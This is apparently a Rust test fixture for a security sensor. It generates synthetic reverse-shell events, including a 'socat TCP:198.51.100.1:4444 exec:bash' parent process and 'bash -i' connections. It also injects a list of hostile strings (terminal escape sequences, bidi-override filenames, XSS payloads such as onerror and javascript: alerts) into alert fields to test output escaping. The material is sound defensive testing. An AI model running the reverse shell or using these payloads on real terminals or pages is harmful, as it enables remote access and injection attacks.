//! Documents to look at: alerts whose texts are what an attacker would have a person's terminal or browser do.

use super::piped;
use anyhow::{Result, ensure};
use serde_json::{Value, json};
use std::path::Path;
use tempfile::TempDir;

/// Alerts of the large page.
pub(super) const MANY: usize = 1000;

/// What a terminal obeys, what turns the direction of text, what is markup, and what is wide or has no width.
pub(super) const HOSTILE: [&str; 18] = [
    "\u{1b}]0;owned\u{7}\u{1b}]2;owned\u{1b}\\",
    "\u{1b}[2J\u{1b}[1;1H\u{1b}[31mred\u{1b}[5A",
    "\u{1b}kowned\u{1b}\\\u{1b}Ptmux;\u{1b}\u{1b}]0;owned\u{7}\u{1b}\\",
    "\u{1b}[?1049h\u{1b}[?25l\u{1b}[?1000h\u{1b}c",
    "\u{9b}31m\u{9d}0;owned\u{9c}\u{85}",
    "one\r\ntwo\u{8}\u{8}\u{8}\u{7f}\t\u{b}\u{c}\u{0}three",
    "\u{202e}gnp.exe\u{202c}\u{2066}\u{2069}\u{200f}\u{200b}\u{feff}",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "\u{6f22}\u{5b57}\u{30ab}\u{30ca} \u{ac00}\u{b098} \u{1f600}",
    "\u{fffd}\\xff\\xfe not UTF-8",
    "<script>document.title = 'owned'; alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "</pre></details></li></ol></main></style></script>",
    "</style><style>*{display:none}</style>",
    "<!-- &lt; &#0; ]]>",
    "javascript:alert(1)",
    "<a href=http://198.51.100.9/>link</a>",
];

/// Files in a folder of their own.
pub(super) struct Fixture {
    pub(super) folder: TempDir,
}

impl Fixture {
    /// Writes `events` (those of a shell for each hostile text, one of which has an argument of 20 kB), `alerts` that the sensor makes of
    /// them, `all` (these, one that somebody has edited, a sign of life, the events), `broken` (lines that are no documents) and `many` alerts.
    pub(super) fn make(sensor: &Path) -> Result<Self> {
        let folder = TempDir::new()?;
        let path = |name: &str| folder.path().join(name);
        let mut events: Vec<Value> =
            HOSTILE.iter().enumerate().flat_map(|(place, text)| hostile(place, text)).collect();
        events.extend(shell(HOSTILE.len(), &json!(["bash", "-i", "x".repeat(20_000), "end"])));
        std::fs::write(path("events"), lines(&events))?;
        let alerts = piped(sensor, &["replay", "events"], folder.path())?;
        ensure!(alerts.lines().count() == HOSTILE.len() + 1, "{} alerts", alerts.lines().count());
        std::fs::write(path("alerts"), &alerts)?;
        let life = json!({"@timestamp": HOSTILE.concat(), "event": {"kind": "event", "dataset": "sensor.life"},
            "log": {"level": HOSTILE.concat()}, "message": HOSTILE.concat()});
        let mut edited: Value = serde_json::from_str(alerts.lines().next().unwrap_or_default())?;
        for field in
            ["/@timestamp", "/message", "/rule/name", "/rule/id", "/sensor/severity", "/event/risk_score", "/source/ip"]
        {
            if let Some(target) = edited.pointer_mut(field) {
                *target = json!(HOSTILE.concat());
            }
        }
        std::fs::write(path("all"), format!("{alerts}{edited}\n{life}\n{}", lines(&events)))?;
        std::fs::write(path("broken"), b"{\"\xff\xfe\x1b[2J\": 1}\n\x1b]0;owned\x07\n[\"\xe2\x80\xae\"]\n")?;
        let events: Vec<Value> =
            HOSTILE.iter().cycle().take(MANY).enumerate().flat_map(|(place, text)| hostile(place, text)).collect();
        std::fs::write(path("events-of-many"), lines(&events))?;
        std::fs::write(path("many"), piped(sensor, &["replay", "events-of-many"], folder.path())?)?;
        Ok(Self { folder })
    }
}

fn lines(documents: &[Value]) -> String {
    documents.iter().map(|document| format!("{document}\n")).collect()
}

/// A connection and a shell of a process, ten seconds after those of the one before.
fn shell(place: usize, arguments: &Value) -> [Value; 2] {
    let event = |id: &str, millis: usize, category: &str, action: &str| {
        json!({
            "@timestamp": place * 10_000 + millis,
            "event": {"id": format!("{place}-{id}"), "category": [category], "type": ["start"], "action": action},
            "host": {"id": "h", "name": format!("host{}", place % 3)},
            "user": {"name": "www-data", "id": "33"},
            "process": {"entity_id": format!("p{place}"), "pid": 1000 + place, "name": "bash", "executable": "/usr/bin/bash",
                "args": arguments, "parent": {"name": "socat", "pid": 7, "args": ["socat", "TCP:198.51.100.1:4444", "exec:bash"]}},
            "source": {"ip": "10.0.0.9", "port": 40_000},
            "destination": {"ip": format!("198.51.100.{}", place % 5), "port": 4444},
        })
    };
    [event("c", 0, "network", "connection_attempted"), event("e", 13, "process", "exec")]
}

/// The same with a text in every place that an attacker can write to, or that somebody can edit.
fn hostile(place: usize, text: &str) -> [Value; 2] {
    shell(place, &json!(["bash", "-i", text])).map(|mut event| {
        for (path, value) in [
            ("/host/name", json!(text)),
            ("/user/name", json!(text)),
            ("/process/executable", json!(text)),
            ("/process/parent/name", json!(text)),
            ("/process/parent/args", json!([text, text])),
        ] {
            if let Some(target) = event.pointer_mut(path) {
                *target = value;
            }
        }
        let ancestors = json!([{"name": text, "pid": 7}, {"name": text, "pid": 1, "args": [text]}]);
        let more = [
            ("sensor".to_owned(), json!({"stdio": [text], "ancestors": ancestors})),
            ("container".to_owned(), json!({"id": text, "name": text})),
        ];
        if let Some(event) = event.as_object_mut() {
            event.extend(more);
        }
        event
    })
}
